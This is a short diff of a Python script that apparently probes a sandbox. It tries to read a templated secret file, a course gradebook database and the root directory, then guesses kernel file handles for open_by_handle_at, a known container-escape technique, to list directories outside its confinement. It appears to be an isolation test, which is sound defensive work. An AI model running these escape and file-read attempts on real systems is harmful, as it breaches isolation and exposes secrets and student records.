@@ -13,7 +13,7 @@ for target in (b"{{SECRET}}", b"{{COURSE}}/gradebook.db", b"/"):
         print("SUCCEEDED", target)
 for kind in (1, 0x81):
     guess = kind.to_bytes(4, "little") + (8).to_bytes(4, "little") + (2).to_bytes(8, "little")
-    place = os.open("/usr/lib", os.O_RDONLY)
+    place = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
     found = libc.open_by_handle_at(place, guess.rjust(12, b"\0"), 0)
     if found >= 0:
         print("SUCCEEDED", os.listdir(found))
